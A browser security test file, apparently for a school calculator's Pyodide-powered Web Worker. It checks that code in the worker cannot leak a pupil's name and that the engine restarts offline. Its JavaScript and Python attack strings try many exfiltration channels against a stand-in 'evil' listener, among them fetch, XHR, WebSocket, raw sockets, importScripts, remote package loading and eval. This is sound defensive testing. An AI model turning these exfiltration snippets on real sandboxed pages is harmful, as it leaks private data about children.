"""Attacks on the calculator's Web Worker, in real Chromium: once the engine has loaded, code
running in the worker cannot send a pupil's name anywhere, and the engine restarts offline.

JavaScript attacks run in the calculator page's own worker through the browser's debugging
protocol (Playwright's `Worker.evaluate`): the page itself has no way to run code in it. Python
attacks run in a second worker that the calculator page starts, the same way, with the same loader.js.
"""

from __future__ import annotations

import json
import re
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import expect

from .conftest import Served, copy_site
from .test_calculator import LOAD_TIMEOUT, READY, open_calculator, upload, ROOT

pytestmark = pytest.mark.browser


class Listener:
    """Another origin that records every request made to it, as an attacker's server would."""

    def __init__(self):
        heard = self.heard = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802
                heard.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "text/javascript")
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()
                self.wfile.write(b"export default 1;")

            do_POST = do_GET

            def log_message(self, *args):
                pass

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.origin = f"http://127.0.0.1:{self.httpd.server_address[1]}"
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def close(self):
        self.httpd.shutdown()
        self.httpd.server_close()


@pytest.fixture
def listener():
    server = Listener()
    yield server
    server.close()


@pytest.fixture
def page(browser, served):
    """The calculator page with nothing between it and the network (no test routing)."""
    context = browser.new_context()
    page = context.new_page()
    page.goto(served.origin + "/calculator/")
    expect(page.locator("#atk-status")).to_have_text(READY, timeout=LOAD_TIMEOUT)
    yield page
    context.close()


def calculator_worker(page):
    return next(w for w in page.workers if w.url.startswith("blob:"))


# Each attack sends a pupil's name to the listener; `attempts` returns what happened to each.
JS_ATTACKS = """async (evil) => {
  const leak = evil + "/?name=Amy%20Pupil";
  const attacks = {
    "fetch": () => fetch(leak),
    "fetch from WorkerGlobalScope.prototype": () => WorkerGlobalScope.prototype.fetch.call(self, leak),
    "fetch put back by deleting the replacement": () => { delete self.fetch; return fetch(leak); },
    "fetch redefined": () => { Object.defineProperty(WorkerGlobalScope.prototype, "fetch", { value: 1 }); },
    "XMLHttpRequest": () => { const x = new XMLHttpRequest(); x.open("GET", leak, false); x.send(); },
    "WebSocket": () => new WebSocket(leak.replace("http", "ws")),
    "EventSource": () => new EventSource(leak),
    "importScripts": () => importScripts(leak),
    "dynamic import": () => import(leak),
    "a nested Worker": () => new Worker(leak),
    "Cache API add": () => caches.open("x").then((c) => c.add(leak)),
    "IndexedDB (keeping the data)": () => indexedDB.open("pupils"),
    "BroadcastChannel": () => new BroadcastChannel("pupils").postMessage("Amy Pupil"),
    "eval": () => eval("1 + 1"),
    "new Function": () => new Function("return 1")(),
    "a same-site file that was not loaded at the start": () => fetch("../../?name=Amy%20Pupil"),
  };
  const out = {};
  for (const [name, attack] of Object.entries(attacks)) {
    try { await attack(); out[name] = "ran"; } catch (err) { out[name] = String(err); }
  }
  return out;
}"""


def test_no_javascript_in_the_worker_can_reach_the_network(page, listener):
    sent = []  # requests that left the browser (one blocked by the page's policy never does)
    page.on("requestfinished", lambda r: sent.append(r.url))
    outcomes = calculator_worker(page).evaluate(JS_ATTACKS, listener.origin)
    ran = [name for name, outcome in outcomes.items() if outcome == "ran"]
    assert ran == [], outcomes
    assert listener.heard == []
    assert [url for url in sent if "Amy" in url] == []


PYTHON_ATTACKS = """
import asyncio, json, sys
evil = EVIL + "/?name=Amy%20Pupil"
host, port = EVIL.split("//")[1].split(":")

def pyfetch():
    from pyodide.http import pyfetch
    return pyfetch(evil)

def js_fetch():
    import js
    return js.fetch(evil)

def xhr():
    import js
    request = js.XMLHttpRequest.new()
    request.open("GET", evil, False)
    request.send()

def socket_connection():
    import socket
    socket.create_connection((host, int(port)), timeout=2).sendall(b"GET /?name=Amy HTTP/1.0\\r\\n\\r\\n")

def urlopen():
    import urllib.request
    urllib.request.urlopen(evil, timeout=2)

def load_package():
    import pyodide_js
    return pyodide_js.loadPackage(EVIL + "/evil-1.0-py3-none-any.whl")

def run_js():
    from pyodide.code import run_js
    return run_js(f"fetch({evil!r})")

def js_eval():
    import js
    return js.eval(f"fetch({evil!r})")

def js_function():
    import js
    return js.Function.new(f"return fetch({evil!r})")()

def js_import_scripts():
    import js
    js.importScripts(evil)

def js_websocket():
    import js
    js.WebSocket.new(evil.replace("http", "ws"))

async def attempt(attack):
    try:
        result = attack()
        if hasattr(result, "__await__"):
            await result
        return "ran"
    except BaseException as exc:
        return f"{type(exc).__name__}: {exc}"[:200]

attacks = [pyfetch, js_fetch, xhr, socket_connection, urlopen, load_package, run_js, js_eval, js_function,
           js_import_scripts, js_websocket]
json.dumps({a.__name__: await attempt(a) for a in attacks})
"""

PROBE_WORKER = """import { loadEngine } from "./loader.js";
const base = new URL("./", import.meta.url).href;
self.onmessage = async (event) => {
  try {
    const engine = await loadEngine(base, event.data.manifest);
    self.postMessage(await engine.pyodide.runPythonAsync(event.data.code));
  } catch (err) { self.postMessage(`failed: ${err}`); }
};
"""


def test_no_python_in_the_worker_can_reach_the_network(browser, site, tmp_path, listener):
    copy = copy_site(site, tmp_path / "site")
    assets = next(copy.glob("assets/calculator-*"))
    (assets / "probe-worker.js").write_text(PROBE_WORKER)
    served = Served(copy)
    context = browser.new_context()
    try:
        page = context.new_page()
        page.goto(served.origin + "/calculator/")
        expect(page.locator("#atk-status")).to_have_text(READY, timeout=LOAD_TIMEOUT)
        probe = f"{served.origin}/{assets.relative_to(copy).as_posix()}/probe-worker.js"
        code = f"EVIL = {json.dumps(listener.origin)}\n" + PYTHON_ATTACKS
        answer = page.evaluate("""([probe, code]) => new Promise((resolve) => {
            const stub = `import ${JSON.stringify(probe)};`;  // started as the calculator starts its worker
            const worker = new Worker(URL.createObjectURL(new Blob([stub], { type: "text/javascript" })), { type: "module" });
            worker.onmessage = (e) => resolve(e.data);
            worker.postMessage({ code, manifest: JSON.parse(document.getElementById("atk-manifest").textContent) });
        })""", [probe, code])
        assert not answer.startswith("failed"), answer
        outcomes = json.loads(answer)
        assert [name for name, outcome in outcomes.items() if outcome == "ran"] == [], outcomes
        assert listener.heard == []
    finally:
        context.close()
        served.close()


def test_the_engine_restarts_with_the_network_off(page):
    upload_done = re.compile(r"^Done")
    page.set_input_files("#atk-file", str(ROOT / "examples" / "register-long.csv"))
    expect(page.locator("#atk-status")).to_have_text(upload_done, timeout=LOAD_TIMEOUT)
    requests = []
    page.on("request", lambda r: requests.append(r.url))
    page.context.set_offline(True)
    # An unexpected failure inside the engine (here: a trend request that is not JSON) makes it restart.
    calculator_worker(page).evaluate("() => self.onmessage({ data: { type: 'trend', request: '{' } })")
    expect(page.locator("#atk-status")).to_have_text(re.compile(r"^Problem: .*restart"))
    page.evaluate("""() => {
        window.__statuses = [];
        new MutationObserver(() => window.__statuses.push(document.getElementById('atk-status').textContent))
            .observe(document.getElementById('atk-status'), { childList: true, characterData: true, subtree: true });
    }""")
    page.set_input_files("#atk-file", str(ROOT / "examples" / "register-wide.csv"))
    expect(page.locator("#atk-status")).to_have_text(upload_done, timeout=LOAD_TIMEOUT)
    assert "Starting Python…" in page.evaluate("() => window.__statuses")
    assert requests == []
